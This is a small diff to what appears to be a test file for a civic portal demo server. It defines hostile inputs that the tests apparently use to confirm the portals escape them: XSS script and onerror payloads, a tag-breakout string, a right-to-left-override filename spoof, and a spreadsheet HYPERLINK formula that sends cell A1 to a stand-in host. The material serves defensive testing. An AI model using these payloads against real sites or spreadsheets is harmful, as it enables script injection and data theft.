@@ -8,7 +8,7 @@ from civicgauge.demo.server import DemoPortals
 
 RAN = "walkedByAScript"
 _SCRIPT = f"<script>window.{RAN}=1;alert('ran')</script>"
-_PICTURE = f"\"><img src=x onerror=\"window.{RAN}=1;alert('ran')\">"
+_PICTURE = f'"><img src=x onerror="window.{RAN}=1;alert(\'ran\')">'
 _BREAK_OUT = f"'\"--></style></title></textarea></script><svg onload=alert('ran')>{_SCRIPT}"
 _TURNED = "\u202egnp.exe\u202c \u2066Budget\u2069 \u200f\u0000\u0007 \ufeff"
 _FORMULA = '=HYPERLINK("http://elsewhere.example/?"&A1,"Budget")'
